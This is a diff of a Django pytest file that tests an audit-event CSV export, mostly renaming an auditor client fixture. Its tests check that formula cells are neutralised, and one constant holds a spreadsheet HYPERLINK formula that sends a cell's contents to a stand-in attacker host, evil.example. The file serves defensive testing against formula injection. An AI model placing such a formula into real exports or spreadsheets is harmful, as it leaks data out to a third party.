@@ -6,7 +6,6 @@ import json
 
 import pytest
 from django.db import transaction
-from rest_framework.test import APIClient
 
 from audit.models import AuditEvent
 from audit.services import audit_record
@@ -16,13 +15,6 @@ from tests.members.factories import UserFactory
 pytestmark = pytest.mark.django_db
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
-
-
-@pytest.fixture
-def auditor():
-    client = APIClient()
-    client.force_authenticate(UserFactory(roles=["auditor"]))
-    return client
 
 
 def export(client, path, **params) -> list[dict]:
@@ -41,17 +33,17 @@ def test_other_cells_are_left_alone(value):
     assert safe_cell(value) == value
 
 
-def test_the_events_export_prefixes_formula_cells(auditor):
+def test_the_events_export_prefixes_formula_cells(auditor_client):
     with transaction.atomic():
         audit_record(actor=None, action="probe.formula", object_type=HYPERLINK, object_id="1", data={"x": HYPERLINK})
         audit_record(actor=None, action="probe.formula", object_type="-2+3", object_id="2", case_ref="@SUM(A1)")
-    rows = export(auditor, "/api/audit/events/", action="probe.formula")
+    rows = export(auditor_client, "/api/audit/events/", action="probe.formula")
     assert [r["object"] for r in rows] == [f"'{HYPERLINK}:1", "'-2+3:2"]
     assert rows[1]["case_ref"] == "'@SUM(A1)"
     assert json.loads(rows[0]["data"]) == {"x": HYPERLINK}  # inside the JSON column, not at a cell's start
 
 
-def test_the_events_export_carries_data_as_one_json_column_for_every_kind_of_event(auditor):
+def test_the_events_export_carries_data_as_one_json_column_for_every_kind_of_event(auditor_client):
     officer = UserFactory(roles=["officer"])
     events = [
         ("case.decide", {"outcome": "upheld", "sanctions": [{"code": "warning"}]}),
@@ -62,15 +54,15 @@ def test_the_events_export_carries_data_as_one_json_column_for_every_kind_of_eve
     with transaction.atomic():
         for action, data in events:
             audit_record(actor=officer, action=action, object_type="probe", object_id=action, data=data)
-    rows = export(auditor, "/api/audit/events/", actor=officer.username)
+    rows = export(auditor_client, "/api/audit/events/", actor=officer.username)
     assert list(rows[0]) == ["seq", "at", "actor", "action", "object", "case_ref", "data", "prev_hash", "hash"]
     assert [(r["action"], json.loads(r["data"])) for r in rows] == events
     stored = AuditEvent.objects.filter(actor=officer).order_by("seq")
     assert [r["hash"] for r in rows] == [e.hash for e in stored]
 
 
-def test_the_json_list_still_gives_data_as_an_object(auditor):
+def test_the_json_list_still_gives_data_as_an_object(auditor_client):
     with transaction.atomic():
         audit_record(actor=None, action="probe.json", object_type="probe", object_id="1", data={"a": [1, 2]})
-    body = auditor.get("/api/audit/events/", {"action": "probe.json"}).json()
+    body = auditor_client.get("/api/audit/events/", {"action": "probe.json"}).json()
     assert body["results"][0]["data"] == {"a": [1, 2]}
